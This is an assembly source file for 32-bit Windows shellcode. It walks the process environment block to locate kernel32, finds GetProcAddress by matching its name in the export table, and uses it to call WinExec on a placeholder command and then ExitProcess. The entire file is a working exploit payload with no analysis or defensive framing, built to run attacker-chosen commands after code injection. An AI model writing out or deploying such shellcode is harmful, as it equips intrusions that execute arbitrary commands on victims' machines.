; Windows, 32 bit: finds GetProcAddress by its letters, asks it for WinExec; ExitProcess likewise.
bits 32
        xor ecx, ecx
        mov esi, [fs:ecx + 0x30]
        mov esi, [esi + 0x0c]
        mov esi, [esi + 0x14]   ; memory order: program, ntdll, kernel32
        lodsd
        xchg eax, esi
        lodsd
        mov ebx, [eax + 0x10]
        mov edx, [ebx + 0x3c]
        add edx, ebx
        mov edx, [edx + 0x78]
        add edx, ebx
        mov esi, [edx + 0x20]
        add esi, ebx
next:   inc ecx
        lodsd
        add eax, ebx
        cmp dword [eax], 'GetP'
        jnz next
        cmp dword [eax + 4], 'rocA'
        jnz next
        cmp dword [eax + 8], 'ddre'
        jnz next
        mov esi, [edx + 0x24]
        add esi, ebx
        mov cx, [esi + ecx * 2]
        dec ecx
        mov esi, [edx + 0x1c]
        add esi, ebx
        mov edi, [esi + ecx * 4]
        add edi, ebx
        push dword 'xec'
        push dword 'WinE'
        push esp
        push ebx
        call edi
        call run
        db WINDOWS_COMMAND, 0
run:    pop edx
        push byte 0
        push edx
        call eax
        push dword 'ess'
        push dword 'Proc'
        push dword 'Exit'
        push esp
        push ebx
        call edi
        push byte 0
        call eax
